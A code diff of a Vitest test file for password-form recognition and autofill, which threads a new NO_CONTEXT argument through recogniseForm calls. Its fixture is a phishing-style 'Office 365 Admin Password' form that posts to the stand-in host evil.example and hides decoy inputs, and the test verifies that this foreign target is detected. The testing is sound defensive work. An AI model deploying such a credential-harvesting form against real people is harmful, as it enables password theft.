@@ -1,6 +1,7 @@
 import { afterEach, expect, test } from 'vitest';
 import { fillForm } from '../../../utils/form/fill-form';
 import { recogniseForm } from '../../../utils/form/recognise-form';
+import { NO_CONTEXT } from '../../../utils/form/recognised-form';
 import { intruderNamed, NAMES_OF_OTHERS } from '../../e2e/attacks/intruders';
 import { APP, look } from './look';
 
@@ -17,7 +18,7 @@ test.each(NAMES_OF_OTHERS)('a form with an input named %s is read and filled all
     look(`${intruderNamed(name)}<form action="https://evil.example/">${intruderNamed(name)}<input name="${name}" style="display:block"><input type=hidden name="${name}">
     <label>Office 365 Admin Password <input id=p type=password></label><label>Confirm password <input id=c type=password></label><button>Submit</button></form>`);
   expect([form?.password.id, form?.confirm?.id]).toEqual(['p', 'c']);
-  const { sight } = recogniseForm(document, APP);
+  const { sight } = recogniseForm(document, APP, NO_CONTEXT);
   expect(sight).toMatchObject({ kind: 'credentials', foreignTarget: 'https://evil.example' });
   if (!form) return;
   const outcome = await fillForm(form, { email: null, password: PASSWORD }, new AbortController().signal);
@@ -66,7 +67,7 @@ test('fifty thousand nodes and a thousand shadow roots are read like any other p
     const host = document.body.appendChild(document.createElement('div'));
     host.attachShadow({ mode: 'open' }).innerHTML = '<span>x</span>';
   }
-  expect(recogniseForm(document, APP).form?.password.id).toBe('p');
+  expect(recogniseForm(document, APP, NO_CONTEXT).form?.password.id).toBe('p');
 });
 
 test('a thousand password fields are no form for a person', () => {
